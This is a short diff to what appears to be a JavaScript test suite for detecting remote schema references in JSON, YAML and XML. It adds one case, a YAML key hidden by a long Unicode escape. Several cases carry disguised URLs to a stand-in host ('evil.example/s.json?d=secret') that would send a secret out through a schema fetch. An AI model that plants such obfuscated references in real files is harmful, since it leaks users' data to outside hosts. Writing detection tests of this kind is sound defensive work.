@@ -14,6 +14,7 @@ describe('addressesToLoad', () => {
     ['an escaped address', `{ "$schema": "\\u0068ttps://evil.example/s.json?d=secret" }`],
     ['YAML', `# yaml-language-server: $schema=${evil}\na: 1`],
     ['YAML with an escape', `"\\x24schema": ${evil}`],
+    ['YAML with a long escape', `"\\U00000024schema": ${evil}`],
     ['XML', `<a xsi:schemaLocation="urn:a ${evil}"/>`],
     ['XML without a namespace', `<a xsi:noNamespaceSchemaLocation="${evil}"/>`],
     ['XML by numbers', `<a xsi:schemaLocation="urn:a &#x68;ttps://evil.example/s.json?d=secret"/>`],
